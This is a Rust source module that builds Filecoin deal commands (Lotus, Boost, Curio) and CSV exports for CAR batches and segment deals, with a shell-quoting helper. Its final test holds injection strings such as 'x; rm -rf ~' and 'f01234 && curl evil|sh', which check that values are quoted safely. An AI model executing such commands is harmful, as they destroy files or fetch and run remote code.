//! Deal commands and CSV for built batches, with the piece size each tool expects:
//!
//! * Lotus (legacy; deal-making left Lotus in v1.27.1): `lotus client deal
//!   --manual-piece-cid=… --manual-piece-size=<UNPADDED> <payload> <miner> <price> <duration>`;
//! * Boost: `boost offline-deal --provider=… --commp=… --piece-size=<PADDED> --payload-cid=…
//!   --duration=… --storage-price=… --verified=…`, and for the SP `boostd import-data
//!   <deal-uuid> <car>` (the UUID is what the client command prints);
//! * Curio: `sptool --actor … toolbox mk12-client offline-deal --provider … --commp …
//!   --piece-size <PADDED> --payload-cid … --duration … --storage-price … --verified=<bool>`
//!   (`--verified` always explicit: Curio defaults to false, Boost to true);
//! * CSV: `piece_cid,piece_size,piece_size_unpadded,car_size,payload_cid,car_file`.
//!
//! Values not given become `<placeholder>`s. Which batches count as built is the judge's word
//! ([`super::judge`]): a result that does not belong to its batch is an error, never exported.

use super::drives::Outs;
use super::file::{write_shipment, Batch, BatchResult, FormatError, Header, Shipment};
use super::judge::{self, Found};
use std::borrow::Borrow;
use std::io;
use std::path::{Path, PathBuf};

/// Deal parameters; `None` prints a placeholder.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DealParams {
    /// Storage provider (`f0…`).
    pub provider: Option<String>,
    /// Lotus legacy price, FIL per epoch.
    pub price: Option<String>,
    /// Duration in epochs (Boost and Curio default to 518400; Lotus prints `<duration>`).
    pub duration: Option<u64>,
    /// Boost/Curio storage price, attoFIL per GiB per epoch.
    pub storage_price: Option<String>,
    /// Verified (Fil+) deal.
    pub verified: bool,
    /// Client wallet.
    pub wallet: Option<String>,
    /// `sptool --actor` (defaults to the provider).
    pub actor: Option<String>,
}

impl Default for DealParams {
    fn default() -> Self {
        DealParams {
            provider: None,
            price: None,
            duration: None,
            storage_price: None,
            verified: true,
            wallet: None,
            actor: None,
        }
    }
}

/// Default deal duration of Boost and Curio (180 days of epochs).
pub const DEFAULT_DURATION: u64 = 518_400;

/// `s` as one shell word: unchanged when it holds only `A-Z a-z 0-9 _ - . , / : = @ % +`, else
/// in single quotes (a `'` inside becomes `'\''`). Exported commands quote every value they
/// interpolate, so a price, wallet or path can never run as shell code.
pub fn shell_word(s: &str) -> std::borrow::Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-.,/:=@%+".contains(c);
    if !s.is_empty() && s.chars().all(plain) {
        std::borrow::Cow::Borrowed(s)
    } else {
        std::borrow::Cow::Owned(format!("'{}'", s.replace('\'', "'\\''")))
    }
}

/// A given value as a shell word, or the placeholder (left for the operator to fill in).
fn or<'a>(v: &'a Option<String>, placeholder: &'a str) -> std::borrow::Cow<'a, str> {
    match v {
        Some(s) => shell_word(s),
        None => std::borrow::Cow::Borrowed(placeholder),
    }
}

/// The piece a deal is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DealPiece<'a> {
    /// Payload CID.
    pub payload_cid: &'a str,
    /// Piece CID v1.
    pub piece_cid: &'a str,
    /// Padded piece size.
    pub piece_size: u64,
    /// Unpadded piece size.
    pub piece_size_unpadded: u64,
}

impl<'a> From<&'a BatchResult> for DealPiece<'a> {
    fn from(r: &'a BatchResult) -> Self {
        DealPiece {
            payload_cid: &r.payload_cid,
            piece_cid: &r.piece_cid,
            piece_size: r.piece_size,
            piece_size_unpadded: r.piece_size_unpadded,
        }
    }
}

/// Boost `offline-deal` (padded piece size, `--verified` explicit).
pub fn boost_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
    let mut s = format!(
        "boost offline-deal --provider={} --commp={} --piece-size={} --payload-cid={} --duration={} --storage-price={} --verified={}",
        or(&p.provider, "<miner>"),
        piece.piece_cid,
        piece.piece_size,
        piece.payload_cid,
        p.duration.unwrap_or(DEFAULT_DURATION),
        or(&p.storage_price, "<storage-price>"),
        p.verified,
    );
    if let Some(w) = &p.wallet {
        s.push_str(&format!(" --wallet={}", shell_word(w)));
    }
    s
}

/// Lotus legacy `client deal` (UNPADDED piece size, which Lotus expects).
pub fn lotus_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
    let from = p.wallet.as_ref().map(|w| format!("--from={} ", shell_word(w))).unwrap_or_default();
    format!(
        "lotus client deal {from}--manual-piece-cid={} --manual-piece-size={} --verified-deal={} {} {} {} {}",
        piece.piece_cid,
        piece.piece_size_unpadded,
        p.verified,
        piece.payload_cid,
        or(&p.provider, "<miner>"),
        or(&p.price, "<price>"),
        p.duration.map(|d| d.to_string()).unwrap_or_else(|| "<duration>".into()),
    )
}

/// Curio `sptool … mk12-client offline-deal` (padded piece size, `--verified` explicit).
pub fn curio_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
    let actor = p.actor.as_ref().or(p.provider.as_ref()).map(|a| shell_word(a)).unwrap_or("<actor>".into());
    let mut s = format!(
        "sptool --actor {actor} toolbox mk12-client offline-deal --provider {} --commp {} --piece-size {} --payload-cid {} --duration {} --storage-price {} --verified={}",
        or(&p.provider, "<miner>"),
        piece.piece_cid,
        piece.piece_size,
        piece.payload_cid,
        p.duration.unwrap_or(DEFAULT_DURATION),
        or(&p.storage_price, "<storage-price>"),
        p.verified,
    );
    if let Some(w) = &p.wallet {
        s.push_str(&format!(" --wallet {}", shell_word(w)));
    }
    s
}

/// What an export writes: deal commands for one tool, CSV, or the shipment itself (one list
/// for `carload export --format` and the workstation's export form).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Format {
    /// Lotus legacy `client deal`.
    Lotus,
    /// Boost `offline-deal` plus the SP's `boostd import-data`.
    Boost,
    /// Curio `sptool toolbox mk12-client offline-deal`.
    Curio,
    /// CSV, one row per batch.
    Csv,
    /// The shipment file with each built batch's result filled in.
    Shipment,
}

impl Format {
    /// Every format, in the order `--format` lists them.
    pub const ALL: [Format; 5] = [Format::Lotus, Format::Boost, Format::Curio, Format::Csv, Format::Shipment];

    /// Its name, as `--format` takes it.
    pub const fn name(self) -> &'static str {
        match self {
            Format::Lotus => "lotus",
            Format::Boost => "boost",
            Format::Curio => "curio",
            Format::Csv => "csv",
            Format::Shipment => "shipment",
        }
    }

    /// What it writes, in one line (the command line's help).
    pub fn about(self) -> &'static str {
        match self {
            Format::Lotus => "Lotus legacy `client deal` (unpadded piece size)",
            Format::Boost => "Boost `offline-deal` (padded) plus the SP's `boostd import-data` line",
            Format::Curio => "Curio `sptool toolbox mk12-client offline-deal` (padded, explicit --verified)",
            Format::Csv => "CSV: piece_cid,piece_size,piece_size_unpadded,car_size,payload_cid,car_file,batch",
            Format::Shipment => "The shipment file itself with each built batch's `result` filled in",
        }
    }

    /// The format named `name`.
    pub fn from_name(name: &str) -> Option<Format> {
        Format::ALL.into_iter().find(|f| f.name() == name)
    }
}

/// CSV header. The batch ID is the last column (added after the others, so readers that take
/// the columns by position keep working).
pub const CSV_HEADER: &str = "piece_cid,piece_size,piece_size_unpadded,car_size,payload_cid,car_file,batch";

/// Fields of one CSV line as [`csv_field`] quotes them (RFC 4180), `None` for an unterminated
/// quote: how `receive` and `commd` read the CSV `export` writes.
pub fn csv_fields(line: &str) -> Option<Vec<String>> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut chars = line.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cur.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cur.push(c),
            (false, '"') if cur.is_empty() => quoted = true,
            (false, ',') => out.push(std::mem::take(&mut cur)),
            (false, c) => cur.push(c),
        }
    }
    (!quoted).then(|| {
        out.push(cur);
        out
    })
}

fn csv_field(s: &str) -> String {
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// The file an export of `format` is written to by default: beside the shipment file, named
/// after it (`s.jsonl` → `s.boost.sh`, `s.csv`, `s.export.jsonl`), else `deals.<format>.sh` (or
/// `deals.csv`) in the working folder.
pub fn default_output(shipment: Option<&Path>, format: Format) -> PathBuf {
    let (dir, stem) = match shipment.and_then(|p| Some((p.parent()?, p.file_name()?.to_str()?))) {
        Some((dir, name)) => (dir, name.strip_suffix(".jsonl").unwrap_or(name).to_string()),
        None => (Path::new(""), "deals".to_string()),
    };
    let name = match format {
        Format::Csv => format!("{stem}.csv"),
        Format::Shipment => format!("{stem}.export.jsonl"),
        f => format!("{stem}.{}.sh", f.name()),
    };
    dir.join(name)
}

/// The deal command of `format` for `piece` (`None` for CSV and the shipment).
pub fn command(format: Format, p: &DealParams, piece: &DealPiece<'_>) -> Option<String> {
    match format {
        Format::Lotus => Some(lotus_command(p, piece)),
        Format::Boost => Some(boost_command(p, piece)),
        Format::Curio => Some(curio_command(p, piece)),
        Format::Csv | Format::Shipment => None,
    }
}

/// The text of the deal formats and CSV for built batches: `(result, CAR path as shown)` in
/// batch order (the shipment format is written by [`render`]).
fn deal_text(format: Format, p: &DealParams, batches: &[&ExportRow]) -> String {
    let mut out = String::new();
    match format {
        // Written by `render` from the shipment itself.
        Format::Shipment => {}
        Format::Csv => {
            out.push_str(CSV_HEADER);
            out.push('\n');
            for (r, car) in batches.iter().map(|row| (&row.0, &row.1)) {
                out.push_str(&format!(
                    "{},{},{},{},{},{},{}\n",
                    r.piece_cid,
                    r.piece_size,
                    r.piece_size_unpadded,
                    r.car_size,
                    r.payload_cid,
                    csv_field(car),
                    csv_field(&r.batch)
                ));
            }
        }
        Format::Lotus | Format::Boost | Format::Curio => {
            let title = match format {
                Format::Lotus => {
                    "Lotus legacy `client deal` (removed in Lotus v1.27.1; --manual-piece-size is UNPADDED)"
                }
                Format::Boost => "Boost `offline-deal` (--piece-size is PADDED); the SP imports each CAR with boostd",
                _ => "Curio `sptool toolbox mk12-client offline-deal` (--piece-size is PADDED)",
            };
            out.push_str(&format!("# carload shipment export: {title}\n"));
            out.push_str(&format!("# {} batches\n", batches.len()));
            for (r, car) in batches.iter().map(|row| (&row.0, &row.1)) {
                let piece = DealPiece::from(r);
                out.push_str(&format!(
                    "\n# {}: {} ({} bytes, piece {} padded / {} unpadded)\n",
                    r.batch,
                    crate::text::escape_controls(car),
                    r.car_size,
                    r.piece_size,
                    r.piece_size_unpadded
                ));
                out.push_str(&deal_lines(format, p, &piece, car, &r.batch, r.car_size));
            }
        }
    }
    out
}

/// A built batch in an export: its result and how the export names its CAR.
pub type ExportRow = (BatchResult, String);

/// Why an export cannot be written.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// The result recorded in the shipment contradicts itself.
    #[error("batch {batch}: the shipment's result is inconsistent: {reason}")]
    Inconsistent {
        /// The batch.
        batch: String,
        /// What is wrong.
        reason: String,
    },
    /// The result recorded in the shipment is another plan's.
    #[error("batch {0}: the shipment's result was built from other contents; rebuild it")]
    OtherContents(String),
    /// The outputs in the folder are corrupt or another plan's.
    #[error("batch {batch}: {reason}; rebuild it with `carload build`")]
    Rebuild {
        /// The batch.
        batch: String,
        /// The judge's reason.
        reason: String,
    },
    /// The result in the folder cannot be read.
    #[error("batch {batch}: {reason}")]
    Unreadable {
        /// The batch.
        batch: String,
        /// The judge's reason.
        reason: String,
    },
    /// Neither the shipment nor an output folder holds any result.
    #[error("no results in the shipment file: pass --out DIR, the folder `carload build` wrote")]
    NoResults,
    /// A result's file list cannot be read.
    #[error("batch {batch}: {source}")]
    ResultFiles {
        /// The batch.
        batch: String,
        /// The cause.
        source: io::Error,
    },
    /// A batch record of the shipment file cannot be read.
    #[error("{path}: {source}")]
    Read {
        /// The shipment file.
        path: PathBuf,
        /// The cause.
        source: FormatError,
    },
    /// A deals file does not go with the shipment or its built batches.
    #[error("{0}")]
    Deals(String),
    /// Writing the export failed.
    #[error(transparent)]
    Write(#[from] io::Error),
}

/// How an export names batch `id`'s CAR: in `out` when given, else `<id>.car`.
pub fn car_path(out: Option<&Path>, id: &str) -> String {
    match out {
        Some(d) => super::build::outputs(d, id).car.display().to_string(),
        None => format!("{id}.car"),
    }
}

/// Batch `b`'s export row: its result from the shipment record or from `out`, if built. A result
/// that does not belong to the batch is an error.
pub fn export_row(header: &Header, b: &Batch, out: Option<Outs<'_>>) -> Result<Option<ExportRow>, ExportError> {
    let dir = out.and_then(|o| o.dir_of(&b.id));
    let r = match (&b.result, out) {
        (Some(r), _) if judge::result_belongs(header, b, r) => {
            if let Err(reason) = judge::check_fields(r, Some(header.min_piece_size)) {
                return Err(ExportError::Inconsistent { batch: b.id.clone(), reason });
            }
            Some(r.clone())
        }
        (Some(_), _) => return Err(ExportError::OtherContents(b.id.clone())),
        (None, None) => None,
        // Not assigned to a drive, or on a drive not given: not built here.
        (None, Some(_)) if dir.is_none() => None,
        (None, Some(_)) => match judge::find_result(dir.expect("checked"), header, b) {
            Found::Built(r) => Some(r),
            Found::Missing => None,
            Found::Other(reason) | Found::Corrupt(reason) => {
                return Err(ExportError::Rebuild { batch: b.id.clone(), reason })
            }
            Found::Unreadable(reason) => return Err(ExportError::Unreadable { batch: b.id.clone(), reason }),
        },
    };
    Ok(r.map(|r| (r, car_path(dir, &b.id))))
}

/// The export rows of `batches` (results from their records or from `out`) and the IDs of those
/// not built; the rows keep their results' file lists only when `keep_files`. The batches may be
/// read one at a time (a shipment of millions of files is never held whole).
pub fn rows_of<B: Borrow<Batch>>(
    header: &Header,
    out: Option<Outs<'_>>,
    batches: impl Iterator<Item = Result<B, ExportError>>,
    keep_files: bool,
) -> Result<(Vec<ExportRow>, Vec<String>), ExportError> {
    let mut rows: Vec<ExportRow> = Vec::new();
    let mut missing = Vec::new();
    for b in batches {
        let b = b?;
        let b = b.borrow();
        match export_row(header, b, out)? {
            Some((mut r, car)) => {
                if !keep_files {
                    r.files = Vec::new();
                }
                rows.push((r, car));
            }
            None => missing.push(b.id.clone()),
        }
    }
    if out.is_none() && rows.is_empty() {
        return Err(ExportError::NoResults);
    }
    Ok((rows, missing))
}

/// The built batches of `s` as export rows (result, CAR path), and the IDs of batches not
/// built. A result that does not belong to its batch (built from an earlier plan) is an error.
pub fn export_rows(s: &Shipment, out: Option<Outs<'_>>) -> Result<(Vec<ExportRow>, Vec<String>), ExportError> {
    rows_of(&s.header, out, s.batches.iter().map(Ok), true)
}

/// The text of an export of `rows` (built batches in order; `missing`: the IDs of the others).
/// The deal formats and CSV are written from the rows alone; [`Format::Shipment`] writes `s` with
/// each built batch's result filled in.
pub fn render(
    s: &Shipment,
    rows: &[ExportRow],
    missing: &[String],
    format: Format,
    params: &DealParams,
) -> Result<String, ExportError> {
    if format != Format::Shipment {
        return Ok(deal_text(format, params, &rows.iter().collect::<Vec<_>>()));
    }
    let mut s = s.clone();
    for (b, r) in s.batches.iter_mut().filter(|b| !missing.contains(&b.id)).zip(rows) {
        b.result = Some(r.0.clone());
    }
    let mut buf = Vec::new();
    write_shipment(&mut buf, &s)?;
    Ok(String::from_utf8_lossy(&buf).into_owned())
}

/// The text `carload export` writes for shipment `s` (results from the records or from `out`),
/// and the IDs of the batches left out because they are not built.
pub fn export_text(
    s: &Shipment,
    out: Option<Outs<'_>>,
    format: Format,
    params: &DealParams,
) -> Result<(String, Vec<String>), ExportError> {
    let (mut rows, missing) = export_rows(s, out)?;
    if let (Format::Shipment, Some(outs)) = (format, out) {
        // Results in the folder are read without their file lists; the shipment embeds them.
        for (r, _) in rows.iter_mut().filter(|(r, _)| r.files.is_empty()) {
            let Some(dir) = outs.dir_of(&r.batch) else { continue };
            r.files = judge::read_result_files(dir, &r.batch)
                .map_err(|source| ExportError::ResultFiles { batch: r.batch.clone(), source })?;
        }
    }
    Ok((render(s, rows.as_slice(), &missing, format, params)?, missing))
}

/// A segment of a deal as an export lists it (padded offset and size).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SegmentExport {
    /// Batch ID.
    pub batch: String,
    /// The batch's piece CID v1.
    pub piece_cid: String,
    /// Padded offset in the deal.
    pub offset: u64,
    /// Padded size.
    pub size: u64,
}

/// A built deal of data segments (FRC-0058, `segment build`) as an export lists it: the deal
/// is made with its piece CID and padded size, and the `.deal` file is what the SP imports.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DealExport {
    /// Deal ID (`deal-0001`).
    pub id: String,
    /// The deal's piece CID v1.
    pub piece_cid: String,
    /// Padded deal size.
    pub piece_size: u64,
    /// Unpadded deal size (the `.deal` file's length).
    pub piece_size_unpadded: u64,
    /// The payload CID the deal proposal carries as its label: the first segment's batch's.
    pub payload_cid: String,
    /// The `.deal` file as shown.
    pub file: String,
    /// Its segments in placement order.
    pub segments: Vec<SegmentExport>,
}

/// The deals of `plan` for an export: the plan must be of the shipment whose ID is
/// `shipment_id`, every segment a built batch of `rows` with the piece the plan records; a deal
/// counts when `segment build` wrote it in `dir` (its sidecar is the plan's and its file has
/// the deal's length; `segment verify` checks the bytes). Returns the built deals (their files
/// as `dir` joined with `<id>.deal` shows them) and the IDs of the others.
pub fn deal_exports(
    plan: &crate::segment::deals::DealsPlan,
    shipment_id: &str,
    rows: &[ExportRow],
    dir: &Path,
) -> Result<(Vec<DealExport>, Vec<String>), ExportError> {
    use crate::segment::deals::{deal_path, judge_deal, Judged};
    if plan.header.shipment != shipment_id {
        return Err(ExportError::Deals(format!(
            "the deals file is of another plan (shipment {}, this shipment is {shipment_id}); plan the deals again with `carload segment plan`",
            plan.header.shipment
        )));
    }
    let built: std::collections::HashMap<&str, &BatchResult> =
        rows.iter().map(|(r, _)| (r.batch.as_str(), r)).collect();
    let mut out = Vec::new();
    let mut missing = Vec::new();
    for d in &plan.deals {
        let mut segments = Vec::with_capacity(d.segments.len());
        for s in &d.segments {
            let piece_cid = s.piece().cid_v1().to_string();
            match built.get(s.batch.as_str()) {
                None => {
                    return Err(ExportError::Deals(format!(
                        "{}: batch {} is not built in the CAR folder given",
                        d.id, s.batch
                    )))
                }
                Some(r) if r.piece_cid != piece_cid || r.piece_size != s.size || r.car_size != s.car_size => {
                    return Err(ExportError::Deals(format!(
                        "{}: batch {} is now piece {} ({} bytes of CAR), the deals plan holds {piece_cid} ({} bytes): rebuilt since planning; plan the deals again",
                        d.id, s.batch, r.piece_cid, r.car_size, s.car_size
                    )))
                }
                Some(_) => {}
            }
            segments.push(SegmentExport { batch: s.batch.clone(), piece_cid, offset: s.offset, size: s.size });
        }
        match judge_deal(dir, d) {
            Ok(Judged::Built) => {}
            Ok(_) => {
                missing.push(d.id.clone());
                continue;
            }
            Err(e) => {
                return Err(ExportError::Unreadable { batch: d.id.clone(), reason: format!("{}: {e}", dir.display()) })
            }
        }
        out.push(DealExport {
            id: d.id.clone(),
            piece_cid: d.piece.cid_v1().to_string(),
            piece_size: d.piece.padded_size,
            piece_size_unpadded: d.piece.unpadded_size,
            payload_cid: built[d.segments[0].batch.as_str()].payload_cid.clone(),
            file: deal_path(dir, &d.id).display().to_string(),
            segments,
        });
    }
    Ok((out, missing))
}

/// The text of the deal formats and CSV for deals of data segments: for each deal its segments
/// (as comments) and its deal command, the SP's import line naming the `.deal` file; CSV rows
/// as for batches (`car_file` the `.deal` file, `car_size` its length, `batch` the deal ID).
/// `None` for the shipment format.
pub fn deals_text(format: Format, p: &DealParams, deals: &[DealExport]) -> Option<String> {
    let mut out = String::new();
    match format {
        Format::Shipment => return None,
        Format::Csv => {
            out.push_str(CSV_HEADER);
            out.push('\n');
            for d in deals {
                out.push_str(&format!(
                    "{},{},{},{},{},{},{}\n",
                    d.piece_cid,
                    d.piece_size,
                    d.piece_size_unpadded,
                    d.piece_size_unpadded,
                    d.payload_cid,
                    csv_field(&d.file),
                    csv_field(&d.id)
                ));
            }
        }
        Format::Lotus | Format::Boost | Format::Curio => {
            out.push_str(&format!(
                "# carload shipment export: deals of data segments (FRC-0058), {} ({})\n",
                format.name(),
                if format == Format::Lotus { "--manual-piece-size is UNPADDED" } else { "--piece-size is PADDED" }
            ));
            out.push_str(&format!(
                "# {} deals; each holds built batches as segments (make these deals, not the batches' own); the payload CID is the first segment's\n",
                deals.len()
            ));
            for d in deals {
                out.push_str(&format!(
                    "\n# {}: {} (piece {} padded / {} unpadded), {} segments:\n",
                    d.id,
                    crate::text::escape_controls(&d.file),
                    d.piece_size,
                    d.piece_size_unpadded,
                    d.segments.len()
                ));
                for s in &d.segments {
                    out.push_str(&format!(
                        "#   {} {} at {} ({} bytes padded)\n",
                        crate::text::escape_controls(&s.batch),
                        s.piece_cid,
                        s.offset,
                        s.size
                    ));
                }
                let piece = DealPiece {
                    payload_cid: &d.payload_cid,
                    piece_cid: &d.piece_cid,
                    piece_size: d.piece_size,
                    piece_size_unpadded: d.piece_size_unpadded,
                };
                out.push_str(&deal_lines(format, p, &piece, &d.file, &d.id, d.piece_size_unpadded));
            }
        }
    }
    Some(out)
}

/// One deal's command in `format` and, for Boost and Curio, the provider's import line for the
/// file holding its bytes (`file`, served as `name`, `size` bytes), ending in a newline.
fn deal_lines(format: Format, p: &DealParams, piece: &DealPiece<'_>, file: &str, name: &str, size: u64) -> String {
    match format {
        Format::Lotus => format!("{}\n", lotus_command(p, piece)),
        Format::Boost => format!(
            "{}\n# SP: boostd import-data <deal-uuid> {}\n",
            boost_command(p, piece),
            crate::text::escape_controls(&shell_word(file))
        ),
        _ => format!(
            "{}\n# SP: curio market add-url --url <url-of-{}> <deal-uuid> {}\n",
            curio_command(p, piece),
            crate::text::escape_controls(name),
            size
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_fields_read_back_what_csv_field_quotes() {
        let fields = ["plain", "a,b", "say \"hi\"", "", "line\nbreak", "\"\""];
        let line = fields.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(",");
        assert_eq!(csv_fields(&line).unwrap(), fields);
        assert_eq!(csv_fields("a,\"open"), None);
    }

    #[test]
    fn formats_are_named_once() {
        for f in Format::ALL {
            assert_eq!(Format::from_name(f.name()), Some(f));
        }
        assert_eq!(Format::from_name("pdf"), None);
        let piece = DealPiece { payload_cid: "bafy", piece_cid: "baga", piece_size: 128, piece_size_unpadded: 127 };
        let p = DealParams::default();
        assert_eq!(command(Format::Boost, &p, &piece), Some(boost_command(&p, &piece)));
        assert_eq!(command(Format::Csv, &p, &piece), None);
        assert_eq!(command(Format::Shipment, &p, &piece), None);
    }

    #[test]
    fn exports_are_named_after_their_shipment() {
        let s = Path::new("/ship/archive.jsonl");
        assert_eq!(default_output(Some(s), Format::Boost), Path::new("/ship/archive.boost.sh"));
        assert_eq!(default_output(Some(s), Format::Lotus), Path::new("/ship/archive.lotus.sh"));
        assert_eq!(default_output(Some(s), Format::Csv), Path::new("/ship/archive.csv"));
        assert_eq!(default_output(Some(s), Format::Shipment), Path::new("/ship/archive.export.jsonl"));
        assert_eq!(default_output(Some(Path::new("plan.txt")), Format::Curio), Path::new("plan.txt.curio.sh"));
        assert_eq!(default_output(None, Format::Curio), Path::new("deals.curio.sh"));
    }

    #[test]
    fn interpolated_values_are_quoted_for_the_shell() {
        assert_eq!(shell_word("f01234"), "f01234");
        assert_eq!(shell_word("0.0000001"), "0.0000001");
        assert_eq!(shell_word("x; rm -rf ~"), "'x; rm -rf ~'");
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(shell_word(""), "''");
        let p = DealParams {
            provider: Some("f01234 && curl evil|sh".into()),
            wallet: Some("$(id)".into()),
            ..DealParams::default()
        };
        let piece = DealPiece { payload_cid: "bafy", piece_cid: "baga", piece_size: 128, piece_size_unpadded: 127 };
        let boost = boost_command(&p, &piece);
        assert!(boost.contains("--provider='f01234 && curl evil|sh'") && boost.contains("--wallet='$(id)'"), "{boost}");
        assert!(lotus_command(&p, &piece).contains("--from='$(id)'"));
        assert!(curio_command(&p, &piece).starts_with("sptool --actor 'f01234 && curl evil|sh'"));
        // Placeholders stay as they are, for the operator to fill in.
        assert!(boost_command(&DealParams::default(), &piece).contains("--provider=<miner>"));
    }
}
